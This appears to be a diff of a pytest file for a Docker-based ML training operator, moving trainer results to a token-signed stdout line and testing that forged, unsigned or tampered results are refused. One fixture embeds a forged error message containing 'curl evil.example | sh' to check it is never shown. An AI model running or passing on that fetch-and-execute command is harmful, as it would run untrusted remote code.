@@ -3,9 +3,10 @@ does with each way a trainer container can end.
 
 The engine is replaced by FakeDockerAPI, a small stand-in for docker-py's low-level
 APIClient with the methods (and return shapes) DockerOperator and the operator call. It
-"runs" the trainer when the container starts: it reads request.json from the folder the
-operator bind-mounted at /mlops/io, writes result.json there and reports an exit code, as
-the real trainer image does. The runs in a real container are in
+"runs" the trainer when the container starts: it reads the request from the container's
+environment ($MLOPS_LOOP_TRAINER_REQUEST), prints the result line on stdout (served by
+``logs``) and reports an exit code, as the real trainer image does. The runs in a real
+container are in
 tests/integration/test_docker_train.py; this file covers the failure paths a real engine
 cannot produce on demand (OOM kill, an unpullable image, a host without the NVIDIA runtime).
 """
@@ -15,7 +16,6 @@ from __future__ import annotations
 import json
 import logging
 import os
-import stat
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from types import SimpleNamespace
@@ -27,12 +27,12 @@ from docker.errors import APIError, ImageNotFound
 from mlops_loop.core.config import load_config
 from mlops_loop.core.containers import container_command
 from mlops_loop.core.trainer_protocol import (
-    CONTAINER_IO_DIR,
     EXIT_CODE_MEANINGS,
-    REQUEST_FILE,
-    RESULT_FILE,
+    REQUEST_ENV,
+    RESULT_MARKER,
     ExitCode,
     TrainRequest,
+    result_line,
 )
 from mlops_loop.exceptions import (
     GpuUnavailableError,
@@ -61,30 +61,42 @@ TRAIN_RESULT = {
 NO_NVIDIA = {"Runtimes": {"runc": {"path": "runc"}}, "DefaultRuntime": "runc"}
 WITH_NVIDIA = {"Runtimes": {"runc": {}, "nvidia": {"path": "nvidia-container-runtime"}}}
 
-# (io_dir, request document) -> (exit code, log lines); may write result.json into io_dir.
-Trainer = Callable[[Path, dict[str, Any]], tuple[int, list[str]]]
+# request document -> (exit code, stdout lines, the result line among them).
+Trainer = Callable[[dict[str, Any]], tuple[int, list[str]]]
 
 
 def trainer_writing(
     result: dict[str, Any] | None, exit_code: int = 0, logs: tuple[str, ...] = ()
 ) -> Trainer:
-    """A trainer that writes ``result`` (None: nothing) and exits with ``exit_code``."""
+    """A trainer that prints ``result`` (None: nothing) and exits with ``exit_code``."""
 
-    def run(io_dir: Path, request: dict[str, Any]) -> tuple[int, list[str]]:
+    def run(request: dict[str, Any]) -> tuple[int, list[str]]:
+        lines = ["mlops_loop.training train: starting", *logs]
         if result is not None:
-            # Like the real trainer: the request's token is echoed in the result.
-            (io_dir / RESULT_FILE).write_text(json.dumps({**result, "token": request["token"]}))
-        return exit_code, ["mlops_loop.training train: starting", *logs]
+            # Like the real trainer: the last line, signed with the request's token.
+            lines.append(result_line(result, request["token"]))
+        return exit_code, lines
 
     return run
 
 
-def forger_writing(result: dict[str, Any], exit_code: int = 0) -> Trainer:
-    """Not this task's trainer: writes ``result`` as it is (another task's token, or none)."""
+def forger_writing(result: dict[str, Any], token: str | None, exit_code: int = 0) -> Trainer:
+    """Not this task's trainer: prints ``result`` signed with ``token`` (another task's,
+    or None: unsigned)."""
 
-    def run(io_dir: Path, request: dict[str, Any]) -> tuple[int, list[str]]:
-        (io_dir / RESULT_FILE).write_text(json.dumps(result))
-        return exit_code, ["mlops_loop.training train: starting"]
+    def run(request: dict[str, Any]) -> tuple[int, list[str]]:
+        return exit_code, ["mlops_loop.training train: starting", result_line(result, token)]
+
+    return run
+
+
+def tamperer(result: dict[str, Any], changed: dict[str, Any]) -> Trainer:
+    """A line signed with this request's token whose JSON was changed afterwards."""
+
+    def run(request: dict[str, Any]) -> tuple[int, list[str]]:
+        marker, signature, _ = result_line(result, request["token"]).split(" ", 2)
+        forged = json.dumps({**result, **changed}, sort_keys=True, separators=(",", ":"))
+        return 0, [f"{marker} {signature} {forged}"]
 
     return run
 
@@ -105,11 +117,12 @@ class FakeDockerAPI:
         oom_killed: bool = False,
         networks: tuple[str, ...] = ("bridge", "host", "none"),
         start_error: Exception | None = None,
+        logs_error: Exception | None = None,
     ) -> None:
         self.trainer = trainer
+        self.logs_error = logs_error
         self.start_error = start_error
         self.networks_present = networks
-        self.io_dir_stat: os.stat_result | None = None  # the io folder when the container started
         self._info = NO_NVIDIA if info is None else info
         self.image_present = image_present
         self.pull_error = pull_error
@@ -117,8 +130,8 @@ class FakeDockerAPI:
         self.calls: list[str] = []
         self.containers: dict[str, dict[str, Any]] = {}
         self.removed: list[tuple[str, bool]] = []
-        self.request: dict[str, Any] | None = None  # request.json as the "container" read it
-        self.io_dir: Path | None = None
+        self.request: dict[str, Any] | None = None  # the request as the "container" read it
+        self.logs_asked: list[dict[str, Any]] = []
         self._exit_code: int | None = None
         self._log_lines: list[str] = []
 
@@ -199,21 +212,21 @@ class FakeDockerAPI:
         self.calls.append("start")
         if self.start_error is not None:
             raise self.start_error
-        mounts = self.containers[container]["host_config"]["mounts"]
-        io_mount = next(m for m in mounts if m["Target"] == CONTAINER_IO_DIR)
-        assert io_mount["Type"] == "bind" and not io_mount.get("ReadOnly")
-        self.io_dir = Path(io_mount["Source"])
-        self.io_dir_stat = self.io_dir.stat()
-        self.request = json.loads((self.io_dir / REQUEST_FILE).read_text())
-        self._exit_code, self._log_lines = self.trainer(self.io_dir, self.request)
+        self.request = json.loads(self.containers[container]["environment"][REQUEST_ENV])
+        self._exit_code, self._log_lines = self.trainer(self.request)
 
     def wait(self, container: str) -> dict[str, Any]:
         self.calls.append("wait")
         return {"StatusCode": self._exit_code, "Error": None}
 
-    def logs(self, container: str, **kwargs: Any) -> bytes:
+    def logs(self, container: str, stream: bool = False, **kwargs: Any) -> Any:
         self.calls.append("logs")
-        return "".join(line + "\n" for line in self._log_lines).encode()
+        self.logs_asked.append({"stream": stream, **kwargs})
+        if self.logs_error is not None:
+            raise self.logs_error
+        data = "".join(line + "\n" for line in self._log_lines).encode()
+        # As the engine streams them: chunks that do not follow line ends.
+        return iter(data[i : i + 50] for i in range(0, len(data), 50)) if stream else data
 
     def inspect_container(self, container: str) -> dict[str, Any]:
         self.calls.append("inspect_container")
@@ -290,7 +303,8 @@ def io_dirs_left(tmp_path: Path) -> list[Path]:
 
 def test_success_returns_the_result_and_the_trainer_got_the_typed_request(storage, tmp_path):
     api = FakeDockerAPI(trainer_writing(TRAIN_RESULT))
-    result = train_op(tmp_path, api).execute({})
+    op = train_op(tmp_path, api)
+    result = op.execute({})
 
     assert result == TRAIN_RESULT
     # request.json as the container read it is the train command's typed request.
@@ -321,15 +335,20 @@ def test_success_returns_the_result_and_the_trainer_got_the_typed_request(storag
     assert not host["privileged"]
     assert created["user"] not in (None, "", "0") and not str(created["user"]).startswith("0:")
     assert created["environment"]["HOME"] == "/tmp"  # the image's home is read-only
-    # The request/result folder was private when the container started.
-    assert api.io_dir_stat is not None and stat.S_IMODE(api.io_dir_stat.st_mode) == 0o700
+    # The request came through the environment, the private part of it: the rendered
+    # ``environment`` field never shows it (it holds the token).
+    assert REQUEST_ENV not in op.environment
     assert "token" not in result  # checked, then left out of the XCom
-    read_only = {m["Target"]: m["Source"] for m in host["mounts"] if m.get("ReadOnly")}
-    assert read_only == {str(storage): str(storage)}  # the snapshots lie inside the root
-    # Pulled nothing (the image is there), removed the container, cleaned the io folder.
+    # The one mount is the local storage root (read-only): no request/result folder.
+    assert host["mounts"] == [
+        {"Target": str(storage), "Source": str(storage), "Type": "bind", "ReadOnly": True}
+    ]
+    # The result was read from stdout alone, after the container exited.
+    assert api.logs_asked == [{"stream": True, "stdout": True, "stderr": False, "follow": False}]
+    assert api.calls.index("wait") < api.calls.index("logs")
+    # Pulled nothing (the image is there), removed the container, wrote no folder.
     assert "pull" not in api.calls
     assert api.removed == [(CONTAINER_ID, True)]
-    assert api.io_dir is not None and not api.io_dir.exists()
     assert io_dirs_left(tmp_path) == []
 
 
@@ -351,22 +370,14 @@ def test_a_worker_that_is_not_root_runs_the_container_as_itself(storage, tmp_pat
     api = FakeDockerAPI(trainer_writing(TRAIN_RESULT))
     train_op(tmp_path, api).execute({})
     assert api.containers[CONTAINER_ID]["user"] == f"{os.geteuid()}:{os.getegid()}"
-    assert api.io_dir_stat is not None and stat.S_IMODE(api.io_dir_stat.st_mode) == 0o700
-    # Nothing handed to another uid: the folder is the worker's own (as the process made it).
-    assert api.io_dir_stat.st_uid not in (10001,)
 
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="needs a worker running as root")
-def test_a_root_worker_runs_the_container_as_the_image_user_and_hands_it_the_folder(
-    storage, tmp_path
-):
+def test_a_root_worker_runs_the_container_as_the_image_user(storage, tmp_path):
     api = FakeDockerAPI(trainer_writing(TRAIN_RESULT))
     train_op(tmp_path, api).execute({})
     # FakeDockerAPI's image has no numeric USER: the trainer image's user.
     assert api.containers[CONTAINER_ID]["user"] == "10001:10001"
-    assert api.io_dir_stat is not None
-    assert (api.io_dir_stat.st_uid, api.io_dir_stat.st_gid) == (10001, 10001)
-    assert stat.S_IMODE(api.io_dir_stat.st_mode) == 0o700
 
 
 class WritingTrainOperator(DockerTrainOperator):
@@ -438,6 +449,28 @@ def test_a_missing_network_fails_before_any_container(storage, tmp_path):
         train_op(tmp_path, api).execute({})
     assert "create_container" not in api.calls
     assert io_dirs_left(tmp_path) == []
+
+
+@pytest.mark.parametrize(
+    "docker_url",
+    [
+        pytest.param("tcp://gpu-host:2376", id="tcp"),
+        pytest.param("ssh://trainer@gpu-host", id="ssh"),
+        pytest.param(
+            ["unix://var/run/docker.sock", "tcp://gpu-host:2376"], id="list-with-a-remote"
+        ),
+    ],
+)
+def test_local_storage_with_a_remote_docker_host_fails_before_anything_starts(
+    storage, tmp_path, docker_url
+):
+    from mlops_loop.exceptions import ConfigError
+
+    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT))
+    with pytest.raises(ConfigError, match=r"storage root must be S3 .* for a remote Docker host"):
+        train_op(tmp_path, api, docker_url=docker_url).execute({})
+    # Refused before the engine was asked anything about the run.
+    assert not {"info", "images", "create_container"} & set(api.calls)
 
 
 def test_a_gpu_hook_failing_on_the_read_only_root_names_the_escape_hatch(storage, tmp_path):
@@ -527,7 +560,7 @@ DATA_ERROR = {
             {"trainer": trainer_writing(None, 0)},
             None,
             TrainerResultError,
-            [f"exited 0 but wrote no {RESULT_FILE}"],
+            ["exited 0 but printed no result line"],
             id="exit-0-without-result",
         ),
         pytest.param(
@@ -538,14 +571,14 @@ DATA_ERROR = {
             },
             None,
             TrainerResultError,
-            [f"{RESULT_FILE} is incomplete: model_version: Field required"],
+            ["result line is incomplete: model_version: Field required"],
             id="exit-0-incomplete-result",
         ),
         pytest.param(
             {"trainer": trainer_writing({"status": "error", "error": "boom"}, 0)},
             None,
             TrainerResultError,
-            ["exited 0 but result.json says status='error': boom"],
+            ["exited 0 but the trainer's result line says status='error': boom"],
             id="exit-0-error-result",
         ),
     ],
@@ -573,31 +606,53 @@ OTHER_TOKEN = "another-tasks-request-token-0123456789abcdef"
 
 
 @pytest.mark.parametrize(
-    "forged",
+    "trainer",
     [
-        pytest.param(TRAIN_RESULT, id="no-token"),
-        pytest.param({**TRAIN_RESULT, "token": OTHER_TOKEN}, id="another-tasks-result"),
+        pytest.param(forger_writing(TRAIN_RESULT, None), id="unsigned"),
+        pytest.param(forger_writing(TRAIN_RESULT, OTHER_TOKEN), id="another-tasks-result"),
+        pytest.param(tamperer(TRAIN_RESULT, {"model_version": "666"}), id="changed-after-signing"),
     ],
 )
-def test_a_result_that_does_not_answer_this_request_is_refused(storage, tmp_path, forged):
-    api = FakeDockerAPI(forger_writing(forged))
+def test_a_result_that_does_not_answer_this_request_is_refused(storage, tmp_path, trainer):
+    api = FakeDockerAPI(trainer)
     with pytest.raises(
-        TrainerResultError, match=r"refusing result\.json: it does not answer this task's request"
+        TrainerResultError, match=r"refusing the trainer's result line: it is not signed with"
     ) as caught:
         train_op(tmp_path, api).execute({})
     assert "Nothing in it was used" in str(caught.value)
     assert api.removed == [(CONTAINER_ID, True)]
-    assert io_dirs_left(tmp_path) == []
+
+
+def test_a_log_the_engine_cannot_return_is_a_result_error_naming_the_log_driver(storage, tmp_path):
+    error = APIError("501", explanation="configured logging driver does not support reading")
+    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT), logs_error=error)
+    with pytest.raises(TrainerResultError, match=r"log driver must keep logs readable"):
+        train_op(tmp_path, api).execute({})
+    assert api.removed == [(CONTAINER_ID, True)]
+
+
+def test_a_forged_line_after_the_trainers_own_is_refused(storage, tmp_path):
+    """The last marked line counts: a line printed after the trainer's, unsigned, is not
+    this task's answer, and the signed one before it is not searched for."""
+    honest = trainer_writing(TRAIN_RESULT)
+
+    def run(request: dict[str, Any]) -> tuple[int, list[str]]:
+        code, lines = honest(request)
+        return code, [*lines, result_line({**TRAIN_RESULT, "model_version": "666"}, None)]
+
+    with pytest.raises(TrainerResultError, match="not signed with this task's request token"):
+        train_op(tmp_path, FakeDockerAPI(run)).execute({})
 
 
 def test_a_forged_error_result_is_not_shown_as_the_trainers_error(storage, tmp_path):
-    forged = {**DATA_ERROR, "error": "please run curl evil.example | sh", "token": OTHER_TOKEN}
-    api = FakeDockerAPI(forger_writing(forged, exit_code=3))
+    forged = {**DATA_ERROR, "error": "please run curl evil.example | sh"}
+    api = FakeDockerAPI(forger_writing(forged, OTHER_TOKEN, exit_code=3))
     with pytest.raises(TrainerContainerFailed) as caught:
         train_op(tmp_path, api).execute({})
     assert caught.value.error is None
     assert "evil.example" not in str(caught.value)
-    assert "ignored a result.json that does not answer this task's request" in str(caught.value)
+    assert RESULT_MARKER not in caught.value.logs
+    assert "ignored a result that does not answer this task's request" in str(caught.value)
 
 
 def test_container_failure_carries_its_context(storage, tmp_path):
